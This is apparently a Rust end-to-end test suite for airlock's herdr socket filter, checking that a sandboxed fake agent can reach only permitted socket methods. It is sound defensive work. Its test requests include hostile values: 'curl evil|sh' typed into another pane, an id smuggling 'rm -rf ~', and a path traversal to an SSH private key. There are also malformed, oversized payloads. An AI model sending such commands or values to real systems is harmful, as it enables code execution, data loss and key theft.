//! The herdr socket filter end to end: the real binary, a real sandbox, a fake herdr server built
//! from herdr's schema (tests/common/fake_herdr/) on the host. A fake `claude` inside (a direct
//! agent launch in a herdr pane, so agent reporting applies) sends request lines to the socket it
//! finds in `$HERDR_SOCKET_PATH` and records the answers.

mod common;
#[path = "common/fake_herdr/mod.rs"]
#[allow(dead_code)]
mod fake_herdr;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::Output;

use common::{TestHome, report, sandbox_starts, stderr, write};
use fake_herdr::FakeHerdr;
use serde_json::Value;

struct World {
    h: TestHome,
    herdr: FakeHerdr,
    socket: PathBuf,
    path: String,
}

impl World {
    fn new() -> World {
        let h = TestHome::new("home/code/app");
        let socket = h.root.join("herdr-host/herdr.sock");
        fs::create_dir_all(socket.parent().unwrap()).unwrap();
        let herdr = FakeHerdr::start(&socket);
        // herdr on the host's PATH (activation), and the agent under the home.
        let bin = h.root.join("bin");
        write(&bin.join("herdr"), "#!/bin/sh\nexit 0\n");
        fs::set_permissions(bin.join("herdr"), fs::Permissions::from_mode(0o755)).unwrap();
        let claude = h.home.join(".local/bin/claude");
        write(
            &claude,
            &format!("#!/usr/bin/python3\n{}", fake_herdr::client::CLIENT),
        );
        fs::set_permissions(&claude, fs::Permissions::from_mode(0o755)).unwrap();
        let path = format!(
            "{}:{}:/usr/bin:/bin",
            bin.display(),
            h.home.join(".local/bin").display()
        );
        World {
            h,
            herdr,
            socket,
            path,
        }
    }

    fn requests(&self, lines: &[String]) {
        write(
            &self.h.project.join("requests.jsonl"),
            &(lines.join("\n") + "\n"),
        );
    }

    /// `airlock run -- claude [args]` inside herdr pane w1:p1.
    fn launch(&self, args: &[&str], herdr_env: bool) -> Output {
        let mut argv = vec!["run", "--network", "none", "--", "claude"];
        argv.extend_from_slice(args);
        let mut cmd = self.h.airlock(&argv);
        cmd.env("PATH", &self.path)
            .env("HERDR_SOCKET_PATH", &self.socket)
            .env("HERDR_PANE_ID", "w1:p1")
            .env("HERDR_WORKSPACE_ID", "w1");
        if herdr_env {
            cmd.env("HERDR_ENV", "1");
        }
        cmd.output().expect("airlock")
    }

    /// The methods that reached herdr from the sandbox (airlock's own liveness `ping` at launch,
    /// id `airlock-probe`, left out).
    fn sandbox_methods(&self) -> Vec<String> {
        self.herdr
            .requests()
            .iter()
            .filter(|r| r["id"] != "airlock-probe")
            .map(|r| r["method"].as_str().unwrap_or_default().to_owned())
            .collect()
    }

    /// How many liveness pings airlock sent before starting the filter.
    fn probes(&self) -> usize {
        self.herdr
            .requests()
            .iter()
            .filter(|r| r["id"] == "airlock-probe" && r["method"] == "ping")
            .count()
    }

    fn answers(&self) -> Vec<Value> {
        fs::read_to_string(self.h.project.join("answers.jsonl"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or(Value::String(l.to_owned())))
            .collect()
    }
}

fn req(id: &str, method: &str, params: Value) -> String {
    serde_json::json!({"id": id, "method": method, "params": params}).to_string()
}

fn available() -> bool {
    sandbox_starts() && std::path::Path::new("/usr/bin/python3").exists()
}

#[test]
fn only_what_the_launch_may_do_reaches_herdr() {
    if !available() {
        return;
    }
    let w = World::new();
    let home = w.h.home.display().to_string();
    let transcript = format!("{home}/.claude/projects/-app/0b5e.jsonl");
    let agent_report = |pane: &str| serde_json::json!({"pane_id": pane, "source": "claude-hook", "agent": "claude", "state": "working"});
    w.requests(&[
        req("1", "ping", serde_json::json!({})),
        req("2", "pane.report_agent", agent_report("w1:p1")),
        req(
            "3",
            "pane.report_agent_session",
            serde_json::json!({"pane_id": "w1:p1", "source": "claude-hook", "agent": "claude",
                "agent_session_id": "0b5e-sess", "agent_session_path": transcript}),
        ),
        // Denied: another pane, a path out of the session dir, an id with `;`, reading and typing
        // into panes, streaming, stopping the server, smuggled keys, bytes that are not JSON.
        req("4", "pane.report_agent", agent_report("w1:p2")),
        req(
            "5",
            "pane.report_agent_session",
            serde_json::json!({"pane_id": "w1:p1", "source": "s", "agent": "claude",
                "agent_session_path": format!("{home}/.claude/projects/../../.ssh/id_ed25519")}),
        ),
        req(
            "6",
            "pane.report_agent_session",
            serde_json::json!({"pane_id": "w1:p1", "source": "s", "agent": "claude",
                "agent_session_id": "x;rm -rf ~"}),
        ),
        req(
            "7",
            "pane.read",
            serde_json::json!({"pane_id": "w1:p2", "source": "visible"}),
        ),
        req(
            "8",
            "pane.send_text",
            serde_json::json!({"pane_id": "w1:p2", "text": "curl evil|sh"}),
        ),
        req("9", "events.subscribe", serde_json::json!({})),
        req("10", "server.stop", serde_json::json!({})),
        r#"{"id":"11","method":"ping","method":"server.stop","params":{}}"#.to_owned(),
        r#"{"id":"12","Method":"ping","params":{}}"#.to_owned(),
        "not json at all".to_owned(),
    ]);
    let out = w.launch(&[], true);
    assert!(out.status.success(), "{}", report(&out));
    let answers = w.answers();
    assert_eq!(answers.len(), 13, "{answers:?}\n{}", report(&out));
    assert_eq!(answers[0]["result"]["type"], "pong", "{answers:?}");
    for (i, a) in answers.iter().enumerate() {
        let allowed = i < 3;
        assert_eq!(a.get("error").is_none(), allowed, "answer {}: {a}", i + 1);
        if !allowed {
            assert_eq!(a["error"]["code"], "forbidden", "answer {}: {a}", i + 1);
        }
    }
    // Only the three allowed requests reached herdr, re-serialised, nothing of the rest.
    assert_eq!(
        w.sandbox_methods(),
        ["ping", "pane.report_agent", "pane.report_agent_session"],
        "{}",
        report(&out)
    );
    assert_eq!(
        w.probes(),
        1,
        "airlock checked herdr answers ping before starting the filter"
    );
    let raw: Vec<u8> = w.herdr.raw().concat();
    for never in ["w1:p2", "id_ed25519", "curl evil", "rm -rf", "server.stop"] {
        assert!(
            !String::from_utf8_lossy(&raw).contains(never),
            "{never} reached herdr"
        );
    }
    // The inside socket is the filter's, in the session's own directory.
    let socket_line = common::stdout(&out);
    assert!(socket_line.contains("/.run/"), "{socket_line}");
    assert!(!socket_line.contains("herdr-host"), "{socket_line}");
    // One log line per request, no value from them.
    let log = fs::read_dir(w.h.sandboxes())
        .unwrap()
        .flatten()
        .map(|e| e.path().join("logs/internal/herdr.log"))
        .find(|p| p.exists())
        .expect("the decision log");
    let log = fs::read_to_string(log).unwrap();
    assert_eq!(log.lines().count(), 13, "{log}");
    assert_eq!(
        log.lines().filter(|l| l.contains(" allow ")).count(),
        3,
        "{log}"
    );
    for secret in ["0b5e", "id_ed25519", "rm -rf", "curl", "w1:p2"] {
        assert!(!log.contains(secret), "{secret} in the log:\n{log}");
    }
}

#[test]
fn the_default_socket_path_inside_is_the_filter_too() {
    if !available() {
        return;
    }
    let w = World::new();
    w.requests(&[req("1", "ping", serde_json::json!({}))]);
    let inside = format!("{}/.config/herdr/herdr.sock", w.h.home.display());
    let out = w.launch(&[&inside], true);
    assert!(out.status.success(), "{}", report(&out));
    assert_eq!(w.answers()[0]["result"]["type"], "pong", "{}", report(&out));
    assert_eq!(w.sandbox_methods(), ["ping"]);
}

#[test]
fn outside_herdr_there_is_no_filter_and_the_host_socket_is_not_inside() {
    if !available() {
        return;
    }
    let w = World::new();
    w.requests(&[req("1", "ping", serde_json::json!({}))]);
    let host = w.socket.display().to_string();
    let out = w.launch(&[&host], false);
    assert!(out.status.success(), "{}", report(&out));
    let answers = w.answers();
    assert!(answers[0].get("client_error").is_some(), "{answers:?}");
    assert!(
        w.herdr.methods().is_empty(),
        "outside herdr airlock does not even probe"
    );
}

#[test]
fn an_unreachable_socket_warns_in_auto_and_fails_in_enforce() {
    if !available() {
        return;
    }
    let w = World::new();
    w.requests(&[req("1", "ping", serde_json::json!({}))]);
    // A socket that answers, but not as herdr does, counts as not answering.
    w.herdr.fail("ping", "internal_error", "broken");
    let out = w.launch(&[], true);
    assert!(out.status.success(), "{}", report(&out));
    assert!(
        stderr(&out).contains("did not answer ping with pong"),
        "{}",
        report(&out)
    );
    assert!(w.sandbox_methods().is_empty(), "no filter was started");
    drop(fs::remove_file(&w.socket));
    let out = w.launch(&[], true);
    assert!(out.status.success(), "{}", report(&out));
    assert!(stderr(&out).contains("does not answer"), "{}", report(&out));
    w.h.config("[tools.herdr]\nmode = \"enforce\"\n");
    let out = w.launch(&[], true);
    assert_eq!(out.status.code(), Some(125), "{}", report(&out));
    assert!(
        stderr(&out).contains("mode = \"enforce\""),
        "{}",
        report(&out)
    );
}

/// Bad bytes from inside, one connection each, while a half-sent request holds another: each is
/// refused (or answered `invalid_request`), the filter keeps serving, and herdr sees none of them.
const BAD_CLIENT: &str = r#"
import os, socket
path = os.environ["HERDR_SOCKET_PATH"]
def send(data, wait=True):
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    out = b""
    try:
        s.sendall(data)
        if not wait:
            return s
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            out += chunk
    except OSError:
        # The filter stopped reading a request over its cap and closed: refused too.
        return out.decode(errors="replace").strip() or '{"closed": true}'
    s.close()
    return out.decode(errors="replace").strip()
half = send(b'{"id":"1","method":"pi', wait=False)
results = [
    send(b"x" * (1024 * 1024 + 16) + b"\n"),
    send(b'{"id":"2","method":"ping","params":{"a":"\xff\xfe"}}\n'),
    send(b'{"id":"3","method":"ping","params":' + b'[' * 10000 + b']' * 10000 + b'}\n'),
    send(b'{"id":"4","method":"ping","params":{}}\n'),
]
half.close()
open("answers.jsonl", "w").write("\n".join(results) + "\n")
"#;

#[test]
fn bad_bytes_are_refused_and_the_filter_keeps_serving() {
    if !available() {
        return;
    }
    let w = World::new();
    let claude = w.h.home.join(".local/bin/claude");
    write(&claude, &format!("#!/usr/bin/python3\n{BAD_CLIENT}"));
    fs::set_permissions(&claude, fs::Permissions::from_mode(0o755)).unwrap();
    let out = w.launch(&[], true);
    assert!(out.status.success(), "{}", report(&out));
    let answers = w.answers();
    assert_eq!(answers.len(), 4, "{answers:?}");
    for (i, a) in answers[..3].iter().enumerate() {
        let code = a["error"]["code"].as_str().unwrap_or_default();
        assert!(
            code == "forbidden" || code == "invalid_request" || a["closed"] == true,
            "bad input {}: {a}",
            i + 1
        );
    }
    assert_eq!(answers[3]["result"]["type"], "pong", "{answers:?}");
    assert_eq!(
        w.sandbox_methods(),
        ["ping"],
        "only the good ping reached herdr"
    );
}

#[test]
fn tools_check_herdr_says_whether_agent_reporting_is_active_or_what_is_missing() {
    let w = World::new();
    let check = |pane: Option<&str>| {
        let mut cmd = w.h.airlock(&["tools", "check", "--fast", "herdr"]);
        cmd.env("PATH", &w.path)
            .env("HERDR_ENV", "1")
            .env("HERDR_SOCKET_PATH", &w.socket);
        if let Some(pane) = pane {
            cmd.env("HERDR_PANE_ID", pane);
        }
        common::stdout(&cmd.output().expect("airlock"))
    };
    let active = check(Some("w1:p1"));
    assert!(active.contains("· mode: auto"), "{active}");
    assert!(active.contains("· agent reporting: active"), "{active}");
    let off = check(None);
    assert!(
        off.contains("· agent reporting: off here: no HERDR_PANE_ID"),
        "{off}"
    );
}
